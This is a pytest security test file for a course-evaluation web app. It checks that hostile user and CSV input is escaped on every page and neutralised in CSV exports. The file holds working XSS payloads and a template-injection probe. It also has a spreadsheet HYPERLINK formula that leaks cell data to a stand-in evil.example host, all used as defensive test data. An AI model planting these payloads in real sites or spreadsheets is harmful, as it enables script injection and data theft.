"""Hostile text everywhere a user or a CSV file can put text: escaped in pages, inert in CSV.

The world is built the way a site gets its data: the tree, people, courses and
groups from CSV files through ``evalsys import``, feedback through the service
(every free-text field), a teacher's response and a withdrawal reason through
the web forms. Then every page that shows any of it is read as each kind of
user. (PDF reports: ``tests/reports/test_report_pdf.py`` puts the same kinds of
text into a rendered report and checks that nothing is fetched or run.)
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from sqlmodel import Session, select

from evalsys import ROOT
from evalsys.accounts.models import User
from evalsys.aggregation import service as aggregation
from evalsys.feedback import rubrics
from evalsys.feedback.inputs import FeedbackInput
from evalsys.feedback.models import Feedback
from evalsys.feedback.writes import submit_feedback
from evalsys.security.csvsafe import FORMULA_START, neutralise
from tests.factories import Factory

SCRIPT = '<script>alert("xss")</script>'
IMG = "<img src=file:///etc/passwd>"
CSS = '<div style="background:url(https://evil.example/x.png)">css</div>'
ATTR = '"><svg onload=alert(1)>'
TEMPLATE = "{{7*7}}{% raw %}"
HOSTILE = f"{SCRIPT} {IMG} {CSS} {ATTR} {TEMPLATE}"
#: What must never reach a page unescaped.
RAW = ["<script>alert", "<img src=file", '<div style="background', "<svg onload"]
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


def csv_text(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)  # test input, written as a user would
    return out.getvalue()


@pytest.fixture
def hostile(cli, session: Session, tmp_path: Path, app):
    files = {
        "units.csv": [
            ["code", "name", "kind", "parent", "name_en"],
            ["U", f"大学 {HOSTILE}", "school", "", FORMULA],
            ["CS", f"{FORMULA}", "college", "U", f"CS {IMG}"],
            ["CS-SE", f"软件 {HOSTILE}", "department", "CS", "+SUM(1,2)"],
        ],
        "people.csv": [
            ["username", "name", "email", "roles"],
            ["dean", f"院长 {SCRIPT}", "", "dean@CS"],
            ["sup", f"督导 {ATTR}", "", "supervisor@CS"],
            ["teacher", f"@SUM(A1) {IMG}", "", "teacher@CS-SE"],
            ["tutor", f"-2+3 {CSS}", "", "tutor@CS-SE"],
            ["admin", "Admin", "", "admin@U"],
        ],
        "terms.csv": [
            ["code", "name", "start_date", "end_date"],
            ["2026-2027-1", f"学期 {SCRIPT}", "2026-09-01", "2027-01-20"],
        ],
        "courses.csv": [
            ["code", "title", "department", "title_en"],
            ["SE101", f"课程 {HOSTILE}", "CS-SE", f"\t{FORMULA}"],
        ],
        "sections.csv": [
            ["code", "course", "term", "teacher", "enrolled"],
            ["SE101-01", "SE101", "2026-2027-1", "teacher", "40"],
        ],
        "groups.csv": [
            ["code", "name", "department", "term", "tutor", "size"],
            ["G-SE-1", f"导师组 {HOSTILE}", "CS-SE", "2026-2027-1", "tutor", "8"],
        ],
    }
    directory = tmp_path / "import"
    directory.mkdir()
    for name, rows in files.items():
        (directory / name).write_text(csv_text(rows), encoding="utf-8")
    result = cli("import", str(directory))
    assert result.exit_code == 0, result.output
    for user in session.exec(select(User)).all():
        user.password_hash = _hash()
        session.add(user)
    rubrics.ensure_default_rubrics(session)
    session.commit()
    sup = session.exec(select(User).where(User.username == "sup")).one()
    tutor = session.exec(select(User).where(User.username == "tutor")).one()
    texts = {
        name: f"{name}: {HOSTILE}" for name in ("strengths", "problems", "suggestions", "comment")
    }
    spot = submit_feedback(
        session,
        user=sup,
        data=FeedbackInput(
            kind="spot_check",
            date=date(2026, 10, 15),
            section="SE101-01",
            scores=_scores(session, "spot_check", 8),
            announced=False,
            enrolled=40,
            present=36,
            late=2,
            class_period=ATTR,
            location=f"{IMG}"[:200],
            **texts,
        ),
        today=date(2026, 10, 15),
    )
    group = submit_feedback(
        session,
        user=tutor,
        data=FeedbackInput(
            kind="tutor_group",
            date=date(2026, 10, 15),
            group="G-SE-1",
            scores=_scores(session, "tutor_group", 4),
            meeting_format="student_discussion",
            attending=8,
            topics=f"topics: {HOSTILE}",
            **texts,
        ),
        today=date(2026, 10, 15),
    )
    session.commit()
    return {"spot": spot, "group": group}


def _hash() -> str:
    from tests.factories import _default_hash

    return _default_hash(Factory.PASSWORD)


def _scores(session: Session, kind: str, value: float) -> dict[str, float]:
    rubric = rubrics.current_rubric(session, kind)
    assert rubric is not None
    return {i.code: value for i in rubrics.rubric_items(session, rubric.id)}  # type: ignore[arg-type]


def _as(app, username: str):
    client = app.test_client()
    r = client.post("/login", data={"username": username, "password": Factory.PASSWORD})
    assert r.status_code == 302, username
    return client


def _check(page: str, where: str) -> None:
    for raw in RAW:
        assert raw not in page, f"{where}: unescaped {raw!r}"
    shown = ("&lt;script&gt;alert", "&lt;img src=file", "&lt;div style", "&lt;svg onload")
    assert any(escaped in page for escaped in shown), (
        f"{where}: the hostile text is not shown at all (escaped)"
    )


def test_hostile_text_is_escaped_on_every_page(app, session: Session, hostile):
    spot: Feedback = hostile["spot"]
    group: Feedback = hostile["group"]
    teacher = _as(app, "teacher")
    r = teacher.post(f"/feedback/{spot.id}/respond", data={"text": f"response: {HOSTILE}"})
    assert r.status_code == 303
    # A failed login with a hostile username: it reaches the audit log's page.
    r = app.test_client().post("/login", data={"username": SCRIPT + IMG, "password": "x" * 9})
    assert r.status_code == 401
    pages = {
        "dean": ["/", "/units/CS", "/units/CS-SE", "/feedback/", f"/feedback/{spot.id}",
                 f"/feedback/{group.id}", f"/feedback/?teacher={IMG}"],
        "teacher": ["/", "/units/CS-SE", "/feedback/teaching", f"/feedback/{spot.id}"],
        "sup": ["/", "/feedback/mine", f"/feedback/{spot.id}", f"/feedback/{spot.id}/edit",
                f"/feedback/sections?kind=spot_check&q={SCRIPT}", "/feedback/new/spot_check"],
        "tutor": ["/feedback/mine", f"/feedback/{group.id}", f"/feedback/{group.id}/edit"],
        "admin": ["/units/U", "/reports/", "/admin/audit/"],
    }  # fmt: skip
    for username, paths in pages.items():
        client = _as(app, username)
        for path in paths:
            r = client.get(path)
            assert r.status_code == 200, f"{path} as {username}: {r.status_code}"
            page = r.get_data(as_text=True)
            if path in ("/feedback/new/spot_check",) or "?" in path or path == "/reports/":
                for raw in RAW:
                    assert raw not in page, f"{path} as {username}: unescaped {raw!r}"
            else:
                _check(page, f"{path} as {username}")
    # The template syntax is shown as typed, not evaluated.
    record = _as(app, "dean").get(f"/feedback/{spot.id}").get_data(as_text=True)
    assert "{{7*7}}" in record and "response: &lt;script&gt;" in record


def test_a_form_that_comes_back_keeps_hostile_text_escaped(app, hostile):
    sup = _as(app, "sup")
    r = sup.post(
        "/feedback/new/spot_check",
        data={"section": "SE101-01", "problems": HOSTILE, "location": IMG, "date": "nonsense"},
    )
    assert r.status_code in (400, 422)
    page = r.get_data(as_text=True)
    for raw in RAW:
        assert raw not in page
    assert "&lt;script&gt;alert" in page  # what the user typed is kept, escaped


def test_csv_export_neutralises_every_text_cell(cli, session: Session, hostile):
    aggregation.aggregate_term(session, term="2026-2027-1")
    session.commit()
    result = cli("export", "aggregates", "--term", "2026-2027-1", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert len(rows) > 3
    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
    names = set()
    for row in rows[1:]:
        for cell in row:
            if cell.startswith(FORMULA_START):
                assert number.fullmatch(cell), f"a cell a spreadsheet would run: {cell!r}"
        names.update(row)
    assert "'" + FORMULA in names  # the college's name, shown as text


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("-1.50", "-1.50"),
        ("+3", "+3"),
        ("-2e-3", "-2e-3"),
        ("软件工程系", "软件工程系"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, written: str):
    assert neutralise(cell) == written


def test_every_csv_writer_goes_through_the_helper():
    """No module writes CSV with the csv module directly: csvsafe is the one way out."""
    offenders = []
    for path in sorted((ROOT / "evalsys").rglob("*.py")):
        if path.name == "csvsafe.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"write CSV through evalsys.security.csvsafe: {offenders}"
